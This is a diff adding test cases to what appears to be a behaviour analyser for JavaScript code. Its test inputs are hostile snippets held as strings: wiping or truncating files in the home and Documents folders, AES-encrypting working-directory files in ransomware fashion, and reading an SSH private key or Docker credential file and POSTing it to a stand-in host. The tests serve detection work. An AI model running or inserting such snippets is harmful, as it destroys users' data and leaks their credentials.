@@ -69,4 +69,35 @@ describe('files', () => {
       'deletes-user-files call',
     ]);
   });
+
+  for (const loss of [
+    `for (const e of fs.readdirSync(path.join(os.homedir(), 'Documents'))) fs.unlinkSync(path.join(os.homedir(), 'Documents', e));`,
+    `const key = require('crypto'); for (const e of fs.readdirSync(process.cwd())) { const c = key.createCipheriv('aes-256-ctr', K, I);
+      fs.writeFileSync(path.join(process.cwd(), e), Buffer.concat([c.update(fs.readFileSync(path.join(process.cwd(), e))), c.final()])); }`,
+    `for (const e of fs.readdirSync(os.homedir())) fs.writeFileSync(path.join(os.homedir(), e), require('crypto').randomBytes(9));`,
+    `for (const e of fs.readdirSync(os.homedir())) fs.truncateSync(path.join(os.homedir(), e), 0);`,
+  ])
+    it(`are lost where they are made unreadable: ${loss}`, () => {
+      assert.deepEqual([...new Set(behavioursOf(loss))], LOSS);
+    });
+
+  it('are read into what is given for that', () => {
+    const key = `os.homedir() + '/.ssh/id_rsa'`;
+    const sent = `fetch('https://collect.invalid', { method: 'POST', body: b });`;
+    for (const read of [
+      `const b = Buffer.alloc(4096); fs.readSync(fs.openSync(${key}), b); ${sent}`,
+      `fs.promises.open(${key}).then(async (h) => { const b = Buffer.alloc(4096); await h.read(b, 0, 4096, 0); ${sent} });`,
+    ])
+      assert.ok(flowsOf(read).includes('ssh-key>network@collect.invalid'), read);
+    assert.deepEqual(flowsOf(`const b = Buffer.alloc(9); fs.readSync(fs.openSync('/opt/x/logo.png'), b); ${sent}`), []);
+  });
+
+  it('that open accounts may be loaded as data', () => {
+    const load = (file: string) =>
+      flowsOf(
+        `const c = require(${file}); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(c) });`,
+      );
+    assert.deepEqual(load(`os.homedir() + '/.docker/config.json'`), ['credential-file>network@collect.invalid']);
+    assert.deepEqual(load(`process.cwd() + '/theme.json'`), []);
+  });
 });
